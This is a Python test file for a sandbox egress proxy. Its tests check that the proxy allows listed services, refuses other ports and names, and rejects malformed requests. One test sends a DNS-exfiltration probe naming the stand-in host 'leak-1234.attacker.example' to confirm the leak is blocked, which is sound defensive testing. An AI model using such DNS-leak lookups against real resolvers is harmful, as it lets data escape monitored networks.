"""The egress proxy on real sockets: a local HTTP server is the allowed
service, a second one (another port) stands for memcached or a Swift
storage server that a playbook must not reach."""

import http.server
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

import testtools

from tripleoplanclient.validations import egress
from tripleoplanclient.validations import shipped


class _Answer(http.server.BaseHTTPRequestHandler):

    def do_GET(self):
        body = ('%s %s' % (self.path, self.headers.get('Connection'))
                ).encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def server(test):
    httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), _Answer)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    test.addCleanup(httpd.server_close)
    test.addCleanup(httpd.shutdown)
    return httpd.server_address[1]


class TestProxy(testtools.TestCase):

    def setUp(self):
        super().setUp()
        self.place = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.place)
        self.allowed_port, self.other_port = server(self), server(self)
        self.names = {'undercloud.example': '127.0.0.1'}
        self.proxy = egress.Proxy(
            os.path.join(self.place, 'egress.sock'),
            [('undercloud.example', self.allowed_port)], resolve=self.resolve)
        self.addCleanup(self.proxy.close)

    def resolve(self, host, port, type=None):
        address = self.names.get(host, host)
        if address is None:
            raise socket.gaierror('unknown')
        return socket.getaddrinfo(address, port, type=type)

    def ask(self, data):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(self.proxy.path)
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        out = b''
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            out += chunk
        sock.close()
        return out.decode()

    def test_an_allowed_service_is_carried_as_origin_form(self):
        answer = self.ask(('GET http://undercloud.example:%d/v3?x=1 HTTP/1.1'
                           '\r\nHost: undercloud.example\r\nProxy-Connection:'
                           ' keep-alive\r\n\r\n' % self.allowed_port).encode())
        self.assertTrue(answer.startswith('HTTP/1.0 200'), answer)
        self.assertTrue(answer.endswith('/v3?x=1 close'), answer)

    def test_connect_to_an_allowed_address_by_another_name(self):
        self.names['other.example'] = '127.0.0.1'
        answer = self.ask(('CONNECT other.example:%d HTTP/1.1\r\n\r\n'
                           'GET /ok HTTP/1.0\r\n\r\n' % self.allowed_port
                           ).encode())
        self.assertTrue(answer.startswith(
            'HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.0 200'),
            answer)
        self.assertIn('/ok', answer)

    def test_another_port_of_the_same_host_is_refused(self):
        for request in ('CONNECT 127.0.0.1:%d HTTP/1.1',
                        'GET http://127.0.0.1:%d/ HTTP/1.1'):
            answer = self.ask((request % self.other_port + '\r\n\r\n'
                               ).encode())
            self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)
            self.assertIn('127.0.0.1:%d is neither a service of the catalog '
                          'nor a server of the plan' % self.other_port,
                          answer)
        self.assertIn(('127.0.0.1', self.other_port), self.proxy.attempts)

    def test_a_name_that_resolves_elsewhere_later_reaches_nothing_new(self):
        # the allowed set was resolved once, when the run began
        self.names['undercloud.example'] = '127.0.0.2'
        answer = self.ask(('CONNECT undercloud.example:%d HTTP/1.1\r\n\r\n'
                           % self.allowed_port).encode())
        self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)

    def test_a_connection_may_stay_silent_past_the_timeout(self):
        listener = socket.create_server(('127.0.0.1', 0))
        self.addCleanup(listener.close)
        port = listener.getsockname()[1]

        def answer_late():
            conn, _ = listener.accept()
            with conn:
                conn.recv(100)
                threading.Event().wait(1.5)
                conn.sendall(b'late answer')

        threading.Thread(target=answer_late, daemon=True).start()
        proxy = egress.Proxy(os.path.join(self.place, 'slow.sock'),
                             [('127.0.0.1', port)], timeout=0.5)
        self.addCleanup(proxy.close)
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.addCleanup(sock.close)
        sock.connect(proxy.path)
        sock.sendall(b'CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\nhello' % port)
        out = b''
        while not out.endswith(b'late answer'):
            chunk = sock.recv(65536)
            if not chunk:
                break
            out += chunk
        self.assertTrue(out.endswith(b'late answer'), out)

    def test_a_service_that_does_not_answer_is_a_bad_gateway(self):
        listener = socket.socket()
        listener.bind(('127.0.0.1', 0))
        closed = listener.getsockname()[1]
        listener.close()
        proxy = egress.Proxy(os.path.join(self.place, 'two.sock'),
                             [('127.0.0.1', closed)])
        self.addCleanup(proxy.close)
        self.proxy = proxy
        answer = self.ask(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % closed
                           ).encode())
        self.assertTrue(answer.startswith('HTTP/1.1 502'), answer)
        self.assertIn('cannot reach 127.0.0.1:%d: Connection refused'
                      % closed, proxy.attempts[('127.0.0.1', closed)])

    def test_resolve_answers_the_executors_addresses(self):
        answer = self.ask(b'RESOLVE undercloud.example TRIPLEOPLAN/1\r\n\r\n')
        self.assertTrue(answer.startswith('HTTP/1.1 200'), answer)
        self.assertTrue(answer.endswith('\r\n\r\n127.0.0.1\n'), answer)
        self.assertIn('400', self.ask(b'RESOLVE a/b TRIPLEOPLAN/1\r\n\r\n'))

    def test_resolve_answers_only_the_names_of_the_targets(self):
        # anything else would let data leave by DNS (a name of the
        # playbook's choosing, asked of the undercloud's resolver)
        asked = []
        self.names['leak-1234.attacker.example'] = '127.0.0.1'
        resolve = self.proxy.resolve
        self.proxy.resolve = lambda host, *a, **k: (
            asked.append(host), resolve(host, *a, **k))[1]
        answer = self.ask(
            b'RESOLVE leak-1234.attacker.example TRIPLEOPLAN/1\r\n\r\n')
        self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)
        self.assertIn('a validation resolves nothing else', answer)
        self.assertEqual([], asked)
        # the undercloud's own name is one (dns-resolution checks it)
        self.names[socket.gethostname()] = '127.0.0.1'
        self.assertIn('200', self.ask(('RESOLVE %s TRIPLEOPLAN/1\r\n\r\n'
                                       % socket.gethostname()).encode()))

    def test_a_refused_target_is_told_the_runners_reason(self):
        proxy = egress.Proxy(
            os.path.join(self.place, 'other.sock'), [],
            refused={('127.0.0.1', self.other_port): 'not for plan p'})
        self.addCleanup(proxy.close)
        self.proxy = proxy
        answer = self.ask(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n'
                           % self.other_port).encode())
        self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)
        self.assertIn('not for plan p', answer)

    def test_statfs_answers_for_a_mount_point_of_the_undercloud(self):
        import json
        answer = self.ask(b'STATFS / TRIPLEOPLAN/1\r\n\r\n')
        self.assertTrue(answer.startswith('HTTP/1.1 200'), answer)
        found = json.loads(answer.partition('\r\n\r\n')[2])
        here = os.statvfs('/')
        self.assertEqual(('/', here.f_blocks * here.f_frsize),
                         (found['path'], found['total']))
        self.assertLessEqual(found['available'], found['free'])
        # not a mount point: whether it exists is not told
        answer = self.ask(('STATFS %s TRIPLEOPLAN/1\r\n\r\n' % self.place
                           ).encode())
        self.assertTrue(answer.startswith('HTTP/1.1 404'), answer)
        self.assertIn('%s is not a mount point of the undercloud\n'
                      % self.place, answer)
        # and the executor's mount points are not listed
        self.assertNotIn('/proc', answer.partition('\r\n\r\n')[2])

    def test_mount_points_undo_the_kernels_escapes(self):
        table = os.path.join(self.place, 'mounts')
        with open(table, 'w') as f:
            f.write('/dev/a / ext4 rw 0 0\n'
                    '/dev/b /srv/my\\040disk xfs rw 0 0\n')
        self.assertEqual({'/', '/srv/my disk'}, egress.mount_points(table))

    def test_what_is_not_a_proxy_request_is_refused(self):
        for request in (b'GET /relative HTTP/1.1\r\n\r\n',
                        b'GET ftp://127.0.0.1/ HTTP/1.1\r\n\r\n',
                        b'hello\r\n\r\n'):
            self.assertIn('HTTP/1.1 400', self.ask(request))

    def test_a_head_without_end_is_cut(self):
        self.assertEqual('', self.ask(b'GET ' + b'a' * (
            egress.HEAD_LIMIT + 10)))

    def test_close_cuts_what_is_carried(self):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.addCleanup(sock.close)
        sock.connect(self.proxy.path)
        sock.sendall(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n'
                      % self.allowed_port).encode())
        self.assertIn(b'200', sock.recv(100))
        self.proxy.close()
        sock.settimeout(10)
        self.assertEqual(b'', sock.recv(100))


class TestRelay(testtools.TestCase):
    """relay.py (what runs inside the sandbox) against the proxy."""

    def setUp(self):
        super().setUp()
        place = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, place)
        self.port = server(self)
        self.path = os.path.join(place, 'egress.sock')
        # a name only the proxy's resolver knows: what reaches it went
        # through the proxy
        self.proxy = egress.Proxy(
            self.path, [('127.0.0.1', self.port),
                        ('undercloud.example', self.port)],
            resolve=lambda host, port, type=None: socket.getaddrinfo(
                '127.0.0.1' if host == 'undercloud.example' else host, port,
                type=type))
        self.addCleanup(self.proxy.close)

    def relay(self, *args, **kwargs):
        return subprocess.run([sys.executable, shipped.RELAY] + list(args),
                              capture_output=True, timeout=60, **kwargs)

    def test_probe(self):
        self.assertEqual(0, self.relay('probe', self.path, '127.0.0.1',
                                       str(self.port)).returncode)
        refused = self.relay('probe', self.path, '127.0.0.1', '1')
        self.assertEqual(1, refused.returncode)
        self.assertIn(b'127.0.0.1:1 is neither', refused.stderr)

    def test_connect_carries_stdin_and_stdout(self):
        done = self.relay('connect', self.path, '127.0.0.1', str(self.port),
                          input=b'GET /through HTTP/1.0\r\n\r\n')
        self.assertEqual(0, done.returncode, done.stderr)
        self.assertIn(b'/through', done.stdout)

    def test_serve_is_the_http_proxy_of_the_command_it_runs(self):
        fetch = ('import urllib.request, sys; sys.stdout.write(urllib.request'
                 '.urlopen("http://undercloud.example:%d/served").read()'
                 '.decode())' % self.port)
        free = socket.socket()
        free.bind(('127.0.0.1', 0))
        relay_port = free.getsockname()[1]
        free.close()
        env = {k: v for k, v in os.environ.items()
               if k.lower() not in ('no_proxy', 'http_proxy')}
        env['http_proxy'] = 'http://127.0.0.1:%d' % relay_port
        done = self.relay('serve', self.path, str(relay_port), '--',
                          sys.executable, '-c', fetch, env=env)
        self.assertEqual(0, done.returncode, done.stderr)
        self.assertIn(b'/served', done.stdout)

    def test_resolve(self):
        done = self.relay('resolve', self.path, 'undercloud.example')
        self.assertEqual((0, b'127.0.0.1\n'), (done.returncode, done.stdout),
                         done.stderr)
